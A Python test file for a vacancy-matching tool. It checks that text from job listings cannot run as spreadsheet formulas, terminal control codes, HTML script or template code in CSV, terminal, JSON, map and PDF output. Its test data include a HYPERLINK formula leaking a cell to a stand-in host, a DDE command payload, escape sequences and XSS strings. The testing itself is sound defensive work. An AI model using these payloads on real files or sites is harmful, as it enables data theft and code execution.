"""What others wrote in a vacancy runs nothing: not in a spreadsheet, a terminal, a map or on the sheet."""

import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bereik.cli import main
from bereik.harmless import as_cell, from_cell, printable, printable_json
from bereik.opportunities import read_vacancies

RUNS = "=+-@\t\r"
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+32 3 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=already",
    "''-twice",
    " =blank before",
    "＝1+1",
    "\x1b[2J\x1b]0;title\x07Kok",
    "Kok \u202egnidnats\u202c",
    "\x9b31mrood",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{ 7*7 }}{% endraw %}",
    "#panic()[*x*]",
    "'s Gravenwezel",
]


@given(st.text(alphabet="'=+-@\t\r\n a＝", max_size=6) | st.text(max_size=20))
def test_a_cell_always_gives_its_text_back_and_never_begins_as_a_formula(text):
    cell = as_cell(text)
    assert from_cell(cell) == text
    assert cell.strip()[:1] not in ("=", "+", "-", "@") or not cell.strip()
    assert cell[:1] not in ("\t", "\r")


@given(st.text())
def test_json_keeps_its_values(text):
    assert json.loads(printable_json(json.dumps(text, ensure_ascii=False))) == text
    assert not any(sign in printable(text) for sign in "\x1b\x9b\x00\x07\u202e\u2066\r")


@pytest.fixture
def attacked(tmp_path):
    """A file of vacancies whose titles and ids are attacks."""
    path = tmp_path / "own.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["id", "title", "employer", "shift_start", "shift_end", "lat", "lon"])
        for number, attack in enumerate(ATTACKS):
            rows.writerow(
                [as_cell(f"{attack}{number}"), as_cell(attack), "De Boot", "08:00", "16:00", 51.4, 4.6]
            )
    return path


def ask(capsys, path, *words):
    assert main(["jobs", "51.4005,4.592", "--vacancies", str(path), *words]) == 0
    return capsys.readouterr()


def test_an_exported_table_runs_nothing_and_reads_back_as_it_was(attacked, tmp_path, capsys):
    out = tmp_path / "out.csv"
    ask(capsys, attacked, "--out", str(out))
    with out.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    texts = [cell for cell in cells if not cell.replace("-", "").replace(".", "").isdigit()]
    assert not [cell for cell in texts if cell.lstrip(" \n")[:1] in (*RUNS, "＝")]
    titles = read_vacancies(attacked)["title"].tolist()
    table = out.with_name("again.csv")
    with out.open(encoding="utf-8", newline="") as file, table.open("w", encoding="utf-8", newline="") as to:
        rows = csv.DictReader(file)
        keep = ["vacancy_id", "title", "shift_start", "shift_end", "lon", "lat"]
        copy = csv.writer(to)
        copy.writerow(["id", *keep[1:]])
        copy.writerows([row[name] for name in keep] for row in rows)
    assert sorted(read_vacancies(table)["title"]) == sorted(titles)
    assert set(titles) >= {
        '=HYPERLINK("http://x.example/?"&A1,"klik")',
        "'=already",
        "''-twice",
        "+32 3 123 45 67",
    }


def test_the_terminal_obeys_no_sign_of_a_vacancy(attacked, capsys):
    told = ask(capsys, attacked, "--all")
    for text in told:
        assert not any(sign in text for sign in "\x1b\x9b\x07\u202e\u202c\r")
    assert "Kok" in told.out
    asked = ask(capsys, attacked, "--format", "json").out
    assert not any(sign in asked for sign in "\x1b\x9b\x07\u202e\r")
    assert any("\u202e" in row["vacancy_id"] for row in json.loads(asked)["rows"])


def test_an_address_or_a_file_name_that_is_typed_is_not_obeyed_either(capsys):
    assert main(["jobs", "51.4,4.6", "--vacancies", "no\x1b[2J\u202efile.csv"]) != 0
    assert main(["jobs", "straat\x1b[2J\u202e 1"]) != 0
    told = capsys.readouterr().err
    assert "\x1b" not in told
    assert "\u202e" not in told


def test_a_map_runs_nothing_of_a_vacancy(attacked, tmp_path, capsys):
    out = tmp_path / "out.html"
    ask(capsys, attacked, "--out", str(out))
    text = out.read_text(encoding="utf-8")
    assert "<img src=x" not in text
    assert "<script>alert" not in text
    assert "\u202e" not in text
    assert "{{ 7*7 }}" not in text or "49" not in text


def test_the_sheet_shows_attacks_as_text(attacked, demo):
    pytest.importorskip("typst")
    from bereik.web.app_state import AppState, Places
    from bereik.web.pdf import write_pdf
    from bereik.web.query import read_query
    from bereik.web.sheet import make_sheet

    desk = AppState(demo.network, Places(read_vacancies(attacked), date=demo.date))
    home = demo.homes[demo.homes["id"] == "wuustwezel"].geometry.iloc[0]
    sheet = make_sheet(desk, read_query({"lat": home.y, "lon": home.x}), None, {})
    assert write_pdf(sheet).startswith(b"%PDF")
